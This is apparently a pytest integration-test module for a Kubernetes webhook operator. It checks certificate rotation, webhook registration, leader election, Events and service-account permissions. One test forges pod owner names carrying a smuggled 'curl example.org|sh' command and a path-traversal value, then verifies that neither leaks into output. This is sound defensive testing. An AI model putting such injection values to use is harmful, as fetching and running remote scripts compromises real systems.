"""`plane-webhook operate` on the real control plane, as its own service account: certificates, registration, rights."""

from __future__ import annotations

import json
import time
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any

import pytest
from cryptography import x509

import certs
from lab.operating import (
    ACCOUNT,
    APPLY,
    HEAL,
    MANIFESTS,
    OWN,
    SECRET,
    Operate,
    as_account,
    bare,
    bind,
    bundle,
    deployment,
    gauge,
    healed,
    kubelet,
    metrics,
    secret,
)
from lab.pods import INJECT, api_pod, create, injected, unharmed
from lab.process import wait_for
from lab.webhook import Webhook
from webhook.cluster.registration import condition
from webhook.settings import Settings, load

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from lab.controlplane import ControlPlane

pytestmark = pytest.mark.lab

SECRETS = f"/api/v1/namespaces/{OWN}/secrets"
REGISTRATIONS = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations"
SLICES = f"/apis/discovery.k8s.io/v1/namespaces/{OWN}/endpointslices"


def registration(plane: ControlPlane) -> dict[str, Any]:
    return plane.api.get(f"{REGISTRATIONS}/{OWN}").json()


def test_a_certificate_is_made_and_trusted_and_the_condition_filled_in(
    controlplane: ControlPlane, serving: Webhook
) -> None:
    probed = controlplane.namespace("operated", INJECT)
    made = wait_for(
        lambda: (pod := create(controlplane, probed, api_pod(), dry_run=True).json()) and injected(pod) and pod,
        20,
        "pods are injected",
    )
    assert made["metadata"]["name"] == "api"
    (webhook,) = registration(controlplane)["webhooks"]
    assert [each["expression"] for each in webhook["matchConditions"]] == [condition(Settings())]
    leaf = x509.load_pem_x509_certificate(secret(controlplane)["tls.crt"])
    names = leaf.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
    assert names.get_values_for_type(x509.DNSName) == [f"{OWN}.{OWN}.svc"]
    assert serving.log_lines(message="certificate in service")


@pytest.mark.usefixtures("serving")
def test_a_deleted_secret_comes_back_and_no_call_fails_on_the_way(controlplane: ControlPlane, operate: Operate) -> None:
    """The old authority stays in the caBundle until the endpoint has shown the new leaf for a while."""
    probed = controlplane.namespace("operated", INJECT)
    before, old = secret(controlplane), bundle(controlplane)
    with unharmed(controlplane):
        controlplane.api.delete(f"{SECRETS}/{SECRET}").raise_for_status()
        lengths = set()

        def over() -> bool:
            assert injected(create(controlplane, probed, api_pod(), dry_run=True).json())
            lengths.add(len(bundle(controlplane)))
            now = secret(controlplane)
            return (
                bool(now)
                and now != before
                and bundle(controlplane) not in (b"", old)
                and len(lengths) > 1
                and len(bundle(controlplane)) < max(lengths)
            )

        wait_for(over, 60, "the Secret is made anew, and the old authority forgotten", need=[operate.process])
    assert max(lengths) > 1.5 * len(old)  # both stood side by side


@pytest.mark.usefixtures("serving")
@pytest.mark.parametrize("name", ["truncated", "emptied", "of another issue"])
def test_an_edited_secret_is_mended(controlplane: ControlPlane, operate: Operate, name: str) -> None:
    other = {
        each: content.decode() for each, content in certs.generate(["x.svc"], days=1, now=datetime.now(UTC)).items()
    }
    edits: dict[str, dict[str, Any]] = {
        "truncated": {"stringData": {"tls.crt": "-----BEGIN CERTIFICATE-----\nMIIB"}},
        "emptied": {"data": None},
        "of another issue": {"stringData": {"tls.key": other["tls.key"]}},
    }
    merge = {"content-type": "application/merge-patch+json"}
    controlplane.api.patch(f"{SECRETS}/{SECRET}", json=edits[name], headers=merge).raise_for_status()

    def mended() -> bool:
        files = secret(controlplane)
        try:
            certs.check(files["tls.crt"], files["tls.key"], files["ca.crt"], now=datetime.now(UTC))
        except (KeyError, certs.CertificateError):
            return False
        return True

    wait_for(mended, 30, "a pair that belongs together", need=[operate.process])


def test_an_emptied_bundle_is_filled_in_again(controlplane: ControlPlane, operate: Operate) -> None:
    def settled() -> bool:
        return bundle(controlplane) == secret(controlplane)["ca.crt"]

    wait_for(settled, 30, "the test before is over")
    gone = [{"op": "remove", "path": "/webhooks/0/clientConfig/caBundle"}]
    controlplane.kubectl("patch", "mutatingwebhookconfiguration", OWN, "--type=json", "-p", json.dumps(gone))
    wait_for(settled, 15, "the caBundle is there again", need=[operate.process])


AS_GITOPS = [("--server-side",), ("--server-side", "--field-manager=argocd-controller", "--force-conflicts"), ()]


def only_registration(manifests: str, serving: Webhook) -> str:
    """Of manifests the registration, for the lab's port."""
    (own,) = [each for each in manifests.split("---\n") if "kind: MutatingWebhookConfiguration" in each]
    return own.replace("port: 443", f"port: {serving.port}")


@pytest.mark.parametrize("how", AS_GITOPS)
def test_applying_the_manifests_again_takes_nothing_away(
    controlplane: ControlPlane, serving: Webhook, how: tuple[str, ...]
) -> None:
    """Server-side, as another manager, and client-side: what `operate` filled in is nobody else's."""
    own = only_registration(controlplane.kubectl("kustomize", MANIFESTS), serving)
    before = registration(controlplane)["webhooks"]
    assert before[0]["clientConfig"]["caBundle"]
    assert before[0]["matchConditions"]
    controlplane.kubectl("apply", *how, "-f", "-", input=own)
    assert registration(controlplane)["webhooks"] == before
    generation = registration(controlplane)["metadata"]["generation"]
    controlplane.kubectl("apply", *how, "-f", "-", input=own)
    assert registration(controlplane)["metadata"]["generation"] == generation


@pytest.fixture
def nothing_registered(controlplane: ControlPlane, operate: Operate, serving: Webhook) -> Iterator[None]:
    """Nothing is; afterwards it is as before."""
    remove = ("delete", "mutatingwebhookconfiguration", OWN, "--ignore-not-found")
    controlplane.kubectl(*remove)
    yield
    controlplane.kubectl(*remove)
    own = only_registration(controlplane.kubectl("kustomize", MANIFESTS), serving)
    controlplane.kubectl("apply", "--server-side", "-f", "-", input=own)
    wait_for(lambda: bundle(controlplane), 15, "it is filled in again", need=[operate.process])


@pytest.mark.usefixtures("nothing_registered")
@pytest.mark.parametrize("how", AS_GITOPS)
def test_applying_what_the_chart_renders_again_takes_nothing_away(
    controlplane: ControlPlane, operate: Operate, serving: Webhook, how: tuple[str, ...]
) -> None:
    """As GitOps tools do, which render it. Its condition is its own: `operate` fills in the caBundle and no more."""
    words = ("--namespace", OWN, "--kube-version", controlplane.kubernetes, "--set", "image.repository=x")
    own = only_registration(controlplane.helm("template", OWN, MANIFESTS.parent / "chart", *words), serving)
    controlplane.kubectl("apply", *how, "-f", "-", input=own)
    wait_for(lambda: bundle(controlplane) == secret(controlplane)["ca.crt"], 20, "it is filled in")
    before = registration(controlplane)
    assert [each["name"] for each in before["webhooks"][0]["matchConditions"]] == ["runs-plane"]
    (filled,) = [each for each in before["metadata"]["managedFields"] if each["manager"] == ACCOUNT]
    assert "matchConditions" not in json.dumps(filled)
    for _ in range(2):
        controlplane.kubectl("apply", *how, "-f", "-", input=own)
        after = registration(controlplane)
        assert after["webhooks"] == before["webhooks"]
        assert after["metadata"]["generation"] == before["metadata"]["generation"]
    assert operate.process.alive()


@pytest.mark.usefixtures("serving")
def test_what_others_have_added_stays_and_keeps_nothing_from_being_done(
    controlplane: ControlPlane, operate: Operate
) -> None:
    """A condition beside ours, an annotation, a key in the Secret; and a Secret that is to be mended, or made anew."""
    wait_for(lambda: bundle(controlplane) == secret(controlplane)["ca.crt"], 30, "the test before is over")
    theirs = {"name": "theirs", "expression": "request.userInfo.username != 'nobody'"}
    beside = [{"op": "add", "path": "/webhooks/0/matchConditions/-", "value": theirs}]
    controlplane.kubectl("patch", "mutatingwebhookconfiguration", OWN, "--type=json", "-p", json.dumps(beside))
    controlplane.kubectl("annotate", "mutatingwebhookconfiguration", OWN, "theirs=kept")
    merge = {"content-type": "application/merge-patch+json"}
    edit = {"metadata": {"annotations": {"theirs": "kept"}}, "stringData": {"theirs": "kept", "tls.crt": "cut"}}
    was = secret(controlplane)
    before = len(operate.said("registration: the condition is set"))
    controlplane.api.patch(f"{SECRETS}/{SECRET}", json=edit, headers=merge).raise_for_status()

    def anew() -> bool:
        now = secret(controlplane)
        return now.get("tls.key") not in (None, was["tls.key"]) and bundle(controlplane) == now["ca.crt"]

    wait_for(anew, 40, "it is mended", need=[operate.process])
    was = secret(controlplane)
    assert was["theirs"] == b"kept"
    found = controlplane.api.get(f"{SECRETS}/{SECRET}").json()
    assert found["metadata"]["annotations"] == {"theirs": "kept"}
    controlplane.api.delete(f"{SECRETS}/{SECRET}").raise_for_status()
    wait_for(anew, 40, "it is made anew", need=[operate.process])
    now = registration(controlplane)
    ours = {"name": "runs-plane", "expression": condition(Settings())}
    assert now["webhooks"][0]["matchConditions"] == [ours, theirs]
    assert now["metadata"]["annotations"]["theirs"] == "kept"
    assert len(operate.said("registration: the condition is set")) == before
    gone = [{"op": "remove", "path": "/webhooks/0/matchConditions/1"}]
    controlplane.kubectl("patch", "mutatingwebhookconfiguration", OWN, "--type=json", "-p", json.dumps(gone))
    controlplane.kubectl("annotate", "mutatingwebhookconfiguration", OWN, "theirs-")


def test_of_two_one_acts_and_the_other_takes_over_when_it_ends(controlplane: ControlPlane, operate: Operate) -> None:
    path = f"/apis/coordination.k8s.io/v1/namespaces/{OWN}/leases/{ACCOUNT}"

    def holder() -> str:
        return controlplane.api.get(path).json()["spec"].get("holderIdentity", "")

    first = holder()
    with Operate(controlplane) as second:
        wait_for(lambda: f"{OWN}_operate_leader 0.0".replace("-", "_") in metrics(second), 10, "the second stands by")
        assert holder() == first
        assert operate.terminate() == 0
        wait_for(lambda: holder() not in ("", first), 5, "the second takes over at once, for the Lease was given back")
        operate.start()
        assert second.terminate() == 0  # killed, it would be waited for
    wait_for(lambda: "plane_webhook_operate_leader 1.0" in metrics(operate), 10, "the first one acts again")


def test_opting_in_without_a_restart_is_said_on_the_deployment_until_it_is_restarted(
    controlplane: ControlPlane, operate: Operate, serving: Webhook
) -> None:
    """The first case that each new user meets. Then every pod of the release comes out right, and that is seen too."""
    plane = controlplane.namespace("slipped")
    wait_for(lambda: create(controlplane, plane, api_pod(), dry_run=True).is_success, 15, "pods can be made")
    controlplane.apply(deployment(plane))
    wait_for(lambda: len(controlplane.pods(plane)) == 2, 20, "two pods")
    controlplane.api.delete(f"/api/v1/namespaces/{OWN}/configmaps/plane-webhook-state")  # it comes back
    controlplane.namespace(plane, INJECT)
    listed = (
        "-n",
        plane,
        "get",
        "events",
        "-o",
        "json",
        "--field-selector",
        "involvedObject.kind=Deployment,reason=NotInjected",
    )

    def warnings() -> list[dict[str, Any]]:
        return json.loads(controlplane.kubectl(*listed))["items"]

    (event,) = wait_for(warnings, 30, "an Event", need=[operate.process])
    assert event["involvedObject"]["name"] == "plane-app-api-wl"
    assert "its tasks can be lost" in event["message"]
    described = controlplane.kubectl("-n", plane, "describe", "deployment", "plane-app-api-wl")
    assert "NotInjected" in described
    assert state(controlplane)[plane].splitlines()[1:] == ["missed deployment/plane-app-api-wl (injected)", UNLIMITED]
    assert gauge(operate, plane, "missed") == 2

    command = event["message"].partition("Create it anew: kubectl ")[2].split()
    assert command == ["-n", plane, "rollout", "restart", "deployment/plane-app-api-wl"]
    controlplane.kubectl(*command)

    def healed() -> bool:
        controlplane.settle(plane)
        return gauge(operate, plane, "missed") == 0 and gauge(operate, plane, "injected") == 2

    wait_for(healed, 40, "all pods are injected", need=[operate.process])
    assert state(controlplane)[plane] == f"injected: 2, missed: 0, outdated: 0, uncovered: 0\n{UNLIMITED}"
    assert len(warnings()) == 1  # not said with every pass
    assert serving.reviews
    controlplane.kubectl("delete", "namespace", plane, "--wait=false")


UNLIMITED = "risk deployment/plane-app-api-wl (rotation-off-no-memory-limit)"


def test_what_only_a_replica_set_was_told_is_said_on_the_deployment_once_a_change(
    controlplane: ControlPlane, operate: Operate, serving: Webhook
) -> None:
    """A second `operate` says nothing again either: what is in the ConfigMap was said."""
    plane = controlplane.namespace("told", INJECT)
    wait_for(lambda: create(controlplane, plane, api_pod(), dry_run=True).is_success, 15, "pods can be made")

    def release(pool_limit: str, command: str) -> None:
        made = deployment(plane, replicas=1)
        (api,) = made["spec"]["template"]["spec"]["containers"]
        api["env"] = [{"name": "CELERY_BROKER_POOL_LIMIT", "value": pool_limit}]
        poller = deployment(plane, replicas=1)
        poller["metadata"]["name"] = "poller"
        poller["spec"]["template"]["spec"]["containers"][0]["command"] = [command]
        controlplane.apply(made, poller)

    def said() -> list[tuple[str, str]]:
        found = controlplane.api.get(f"/api/v1/namespaces/{plane}/events").json()["items"]
        ours = [each for each in found if each["source"].get("component") == ACCOUNT]
        return sorted((each["involvedObject"]["name"], each["reason"]) for each in ours)

    first = [("plane-app-api-wl", "KeptVariables"), ("plane-app-api-wl", "Risk"), ("poller", "NotCovered")]
    release("3", "./bin/docker-entrypoint-outbox-poller.sh")
    wait_for(lambda: said() == first, 20, "all is said", need=[operate.process])
    message = controlplane.kubectl("-n", plane, "get", "events", "-o", "jsonpath={.items[*].message}")
    assert "sets CELERY_BROKER_POOL_LIMIT itself" in message
    assert "has no memory limit" in message
    assert "by other means" in message
    controlplane.api.delete(f"/api/v1/namespaces/{plane}/events").raise_for_status()
    operate.terminate()
    operate.start()
    wait_for(lambda: gauge(operate, plane, "injected") == 1, 15, "it has looked", need=[operate.process])
    assert said() == []
    release("3", "./bin/docker-entrypoint-unheard-of.sh")
    wait_for(lambda: said() == [("poller", "NotCovered")], 20, "only what changed is said", need=[operate.process])
    assert serving.reviews
    controlplane.kubectl("delete", "namespace", plane, "--wait=false")


def test_an_owner_that_is_no_name_gets_nowhere_and_keeps_nothing_from_being_said(
    controlplane: ControlPlane, operate: Operate
) -> None:
    """The API server takes any text there, from whoever may create pods. Such a pod is its own owner."""
    plane = controlplane.namespace("forged")
    wait_for(lambda: create(controlplane, plane, api_pod(), dry_run=True).is_success, 15, "pods can be made")
    owners = {
        "event": {"apiVersion": "x.example/v1", "kind": "Deployment", "name": "a/b"},
        "path": {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "../deployments/x"},
        "line": {
            "apiVersion": "x.example/v1",
            "kind": "Deployment",
            "name": "x; curl example.org|sh #\nmissed deployment/y",
        },
    }
    for name, owner in owners.items():
        references = [owner | {"uid": name, "controller": True}]
        create(
            controlplane, plane, api_pod() | {"metadata": {"name": name, "ownerReferences": references}}
        ).raise_for_status()
    controlplane.namespace(plane, INJECT)
    wait_for(lambda: plane in state(controlplane), 30, "it is said", need=[operate.process])
    lines = state(controlplane)[plane].splitlines()[1:]
    here = {
        each["metadata"]["name"] for each in controlplane.pods(plane)
    }  # the garbage collector takes what it can judge
    assert {each for each in lines if each.startswith("missed")} >= {f"missed pod/{name} (injected)" for name in here}
    assert {"event", "line"} <= here
    found = controlplane.api.get(f"/api/v1/namespaces/{plane}/events").json()["items"]
    assert {each["involvedObject"]["name"] for each in found if each["reason"] == "NotInjected"} >= here
    assert "curl" not in json.dumps([found, state(controlplane)])
    controlplane.kubectl("delete", "namespace", plane, "--wait=false")


def test_a_pod_that_slipped_by_is_found_within_30_s(controlplane: ControlPlane, operate: Operate) -> None:
    """By the program as it is shipped; opted in and not restarted. From the label on, at the worst moment for it."""
    plane = controlplane.namespace("timed")
    wait_for(lambda: create(controlplane, plane, api_pod(), dry_run=True).is_success, 15, "pods can be made")
    create(controlplane, plane, api_pod()).raise_for_status()
    assert operate.terminate() == 0
    with Operate(controlplane, impatient=False) as shipped:
        wait_for(lambda: "plane_webhook_operate_pods{" in metrics(shipped), 20, "it has looked at the pods")
        controlplane.namespace(plane, INJECT)  # right after that
        began = time.monotonic()

        def said() -> bool:
            listed = controlplane.api.get(f"/api/v1/namespaces/{plane}/events").json()["items"]
            return any(each["reason"] == "NotInjected" for each in listed) and gauge(shipped, plane, "missed") == 1

        wait_for(said, 30, "an Event and the metric", need=[shipped.process])
        print(f"found after {time.monotonic() - began:.1f} s")
        assert shipped.terminate() == 0
    operate.start()


def test_a_changed_configuration_gets_into_the_condition_and_what_is_older_is_found_and_healed(
    controlplane: ControlPlane, operate: Operate, serving: Webhook, tmp_path: Path
) -> None:
    """The kustomize way, where nobody prints anything. Until `operate` has it a new image's pods may slip by."""
    plane = controlplane.namespace("reconfigured", INJECT)
    wait_for(lambda: create(controlplane, plane, api_pod(), dry_run=True).is_success, 15, "pods can be made")
    with kubelet(controlplane, plane):
        controlplane.apply(deployment(plane))
        wait_for(lambda: healed(controlplane, plane, 2), 20, "two pods, injected")
        wait_for(lambda: bundle(controlplane) == secret(controlplane)["ca.crt"], 30, "the tests before are over")
        trusted = bundle(controlplane)
        changed = tmp_path / "configuration.yaml"
        changed.write_text("images: [makeplane/plane-backend, our/fork]\nenv: {celery_broker_pool_limit: 3}\n")
        direct = {"image": "registry.example/our/fork:v1", "command": ["gunicorn", "plane.asgi:application"]}
        bind(controlplane, plane)
        assert operate.terminate() == 0
        reconfigure(serving, changed)
        try:
            asked = serving.reviews
            create(controlplane, plane, api_pod("early", **direct)).raise_for_status()
            assert serving.reviews == asked, "by the condition of before it is none of Plane's"
            with Operate(controlplane, "--config", changed) as second:
                need = [second.process]
                wait_for(lambda: expressions(controlplane) == [condition(load(changed))], 15, "it is set", need=need)
                assert bundle(controlplane) == trusted
                wait_for(
                    lambda: injected(create(controlplane, plane, api_pod(**direct), dry_run=True).json()),
                    15,
                    "pods of the new image are injected",
                )
                wait_for(lambda: gauge(second, plane, "outdated") == 2, 30, "the old pods are found", need=need)
                assert gauge(second, plane, "missed") == 1
                listed = controlplane.api.get(f"/api/v1/namespaces/{plane}/events").json()["items"]
                said = {(each["reason"], each["involvedObject"]["name"]) for each in listed}
                assert {("OtherSettings", "plane-app-api-wl"), ("NotInjected", "early")} <= said
                controlplane.namespace(plane, HEAL)
                wait_for(lambda: gauge(second, plane, "injected") == 2, 60, "the old ones are evicted", need=need)
                assert gauge(second, plane, "outdated") == 0
                assert bundle(controlplane) == trusted
                assert second.terminate() == 0
        finally:
            reconfigure(serving, None)
            operate.start()
        wait_for(lambda: expressions(controlplane) == [condition(Settings())], 15, "it is as before")
        assert bundle(controlplane) == trusted
    controlplane.kubectl("delete", "namespace", plane, "--wait=false")


def test_what_is_no_longer_asked_for_is_found_and_made_anew_without_the_injection(
    controlplane: ControlPlane, operate: Operate, serving: Webhook, tmp_path: Path
) -> None:
    plane = controlplane.namespace("unasked", INJECT)
    wait_for(lambda: create(controlplane, plane, api_pod(), dry_run=True).is_success, 15, "pods can be made")
    changed = tmp_path / "configuration.yaml"
    changed.write_text("workloads: [worker]\n")
    with kubelet(controlplane, plane):
        controlplane.apply(deployment(plane, 1))
        wait_for(lambda: healed(controlplane, plane, 1), 20, "a pod, injected")
        assert operate.terminate() == 0
        reconfigure(serving, changed)
        try:
            with Operate(controlplane, "--config", changed) as second:
                need = [second.process]
                wait_for(lambda: gauge(second, plane, "outdated") == 1, 30, "it is found", need=need)
                bind(controlplane, plane)
                controlplane.namespace(plane, HEAL)
                wait_for(lambda: gauge(second, plane, "out") == 1, 60, "it is evicted", need=need)
                assert [injected(each) for each in controlplane.pods(plane)] == [False]
                assert gauge(second, plane, "outdated") == 0
                assert second.terminate() == 0
        finally:
            reconfigure(serving, None)
            operate.start()
    controlplane.kubectl("delete", "namespace", plane, "--wait=false")


def expressions(plane: ControlPlane) -> list[str]:
    return [each["expression"] for each in registration(plane)["webhooks"][0]["matchConditions"]]


def reconfigure(webhook: Webhook, configuration: Path | None) -> None:
    """Start it with another configuration, as its Deployment's rollout does."""
    webhook.configuration = configuration
    webhook.process.kill()
    webhook.start()


def state(plane: ControlPlane) -> dict[str, str]:
    return plane.api.get(f"/api/v1/namespaces/{OWN}/configmaps/plane-webhook-state").json().get("data") or {}


@pytest.mark.usefixtures("operate")
def test_it_may_do_what_it_does_and_nothing_else(controlplane: ControlPlane) -> None:
    """As the account itself. What it has done above is what is granted."""
    apply = {"content-type": "application/apply-patch+yaml"}
    made = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "other"}}
    hook = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration"}
    with as_account(controlplane, ACCOUNT) as account:
        assert account.get(f"{SECRETS}/{SECRET}").status_code == 200
        for method, path, body in (
            ("GET", SECRETS, None),
            ("GET", f"{SECRETS}/other", None),
            ("PATCH", f"{SECRETS}/other?fieldManager=x", made),
            ("DELETE", f"{SECRETS}/{SECRET}", None),
            ("GET", f"/api/v1/namespaces/kube-system/secrets/{SECRET}", None),
            ("GET", REGISTRATIONS, None),
            ("PATCH", f"{REGISTRATIONS}/other?fieldManager=x", hook | {"metadata": {"name": "other"}}),
            ("DELETE", f"{REGISTRATIONS}/{OWN}", None),
            ("POST", f"/api/v1/namespaces/{OWN}/pods", bare()),
            ("GET", f"/api/v1/namespaces/{OWN}/configmaps", None),
            ("DELETE", f"/api/v1/namespaces/{OWN}/pods/any", None),
            ("PATCH", f"/apis/apps/v1/namespaces/{OWN}/deployments/plane-webhook?fieldManager=x", made),
        ):
            headers = apply if method == "PATCH" else {}
            assert account.request(method, path, json=body, headers=headers).status_code == 403, (method, path)


@pytest.mark.usefixtures("operate")
def test_logs_may_be_read_where_that_is_granted_and_nowhere_else(controlplane: ControlPlane) -> None:
    """As the account itself. What is let through comes back empty, for the pod has no node."""
    granted, other = controlplane.namespace("logs-granted"), controlplane.namespace("logs-other")
    bind(controlplane, granted, "logs")
    for name in (granted, other):
        wait_for(
            lambda name=name: create(controlplane, name, api_pod(), dry_run=True).is_success, 15, "pods can be made"
        )
        create(controlplane, name, api_pod()).raise_for_status()
    with as_account(controlplane, ACCOUNT) as account:

        def read(namespace: str, rest: str) -> int:
            return account.get(f"/api/v1/namespaces/{namespace}/pods/{rest}").status_code

        wait_for(lambda: read(granted, "api/log") == 204, 10, "the right is there")
        assert read(other, "api/log") == 403
        assert (read(granted, "api"), read(granted, "api/proxy")) == (403, 403)
    for name in (granted, other):
        controlplane.kubectl("delete", "namespace", name, "--wait=false")


@pytest.mark.usefixtures("installed")
def test_the_server_may_do_nothing(controlplane: ControlPlane) -> None:
    with as_account(controlplane, OWN) as account:
        for path in (f"{SECRETS}/{SECRET}", f"{REGISTRATIONS}/{OWN}", f"/api/v1/namespaces/{OWN}/pods", SLICES):
            assert account.get(path).status_code == 403


def test_at_rest_it_takes_little_memory(operate: Operate) -> None:
    (line,) = [each for each in metrics(operate).splitlines() if each.startswith("process_resident_memory_bytes")]
    resident = float(line.split()[1]) / (1 << 20)
    print(f"operate: {resident:.0f} MiB")
    assert resident < 90


@pytest.mark.usefixtures("serving")
def test_of_two_installations_the_one_that_is_not_asked_leaves_the_registration_alone(
    controlplane: ControlPlane, operate: Operate
) -> None:
    """As after a move to another namespace: each would take out of the caBundle what the other puts there."""
    second = controlplane.namespace("second")
    wait_for(lambda: bundle(controlplane) == secret(controlplane)["ca.crt"], 30, "the tests before are over")
    before = registration(controlplane)
    with Operate(controlplane, "--namespace", second, "--kubeconfig", controlplane.kubeconfig) as other:
        wait_for(lambda: other.said(f"leads to the Service {OWN}/{OWN}"), 10, "it says so", need=[other.process])
        time.sleep(5)
        assert registration(controlplane) == before
        assert controlplane.kubectl("-n", second, "get", "secrets", "-o", "name") == ""
        assert len(other.said("leads to the Service")) == 1
    assert not operate.said("leads to the Service")
    controlplane.kubectl("delete", "namespace", second, "--wait=false")


def test_a_deleted_registration_is_said_and_not_made_again(controlplane: ControlPlane, operate: Operate) -> None:
    controlplane.kubectl("delete", "mutatingwebhookconfiguration", OWN)
    wait_for(
        lambda: operate.said("plane-webhook is missing, or has not our webhook, so no pod is injected"),
        10,
        "it is said",
    )
    assert "plane_webhook_operate_registered 0.0" in metrics(operate)
    assert controlplane.api.get(f"{REGISTRATIONS}/{OWN}").status_code == 404
    controlplane.kubectl(*APPLY)
    wait_for(lambda: bundle(controlplane), 15, "it is filled in again", need=[operate.process])
